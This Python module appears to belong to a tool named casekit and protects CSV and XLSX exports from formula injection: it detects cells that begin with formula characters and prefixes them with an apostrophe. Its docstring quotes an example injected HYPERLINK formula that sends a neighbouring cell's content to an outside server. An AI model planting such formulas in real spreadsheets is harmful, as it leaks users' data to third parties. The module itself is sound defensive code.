"""Spreadsheet cells that are text, not formulas.

A case text that begins with ``=`` (or ``+``, ``-``, ``@``, a tab or a carriage return) is a formula to Excel
and LibreOffice when a CSV or XLSX file is opened: ``=HYPERLINK("http://…?"&A2, "open")`` sends the next
cell's content to a stranger's server with one click. Every CSV/XLSX casekit writes passes user text through
:func:`neutralise`, which keeps it as text by putting an apostrophe in front (what a spreadsheet shows for a
typed ``'=…``). A plain number (``-3``, ``+1.5``) is no formula and is left alone. Imports report such cells
(:func:`formula_like`), so that the person importing knows where they are.
"""
from __future__ import annotations

from typing import Any

#: first characters that make a spreadsheet read a cell as a formula (OWASP's list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def formula_like(value: Any) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula (text beginning with = + - @ tab or CR)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value)


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet shows it but never evaluates it: formula-like text gets a leading ``'``."""
    return "'" + value if formula_like(value) else value


def neutralise_frame(frame):
    """A copy of a pandas frame whose text cells are :func:`neutralise`\\ d (numbers, dates untouched)."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise, na_action="ignore")
    return out
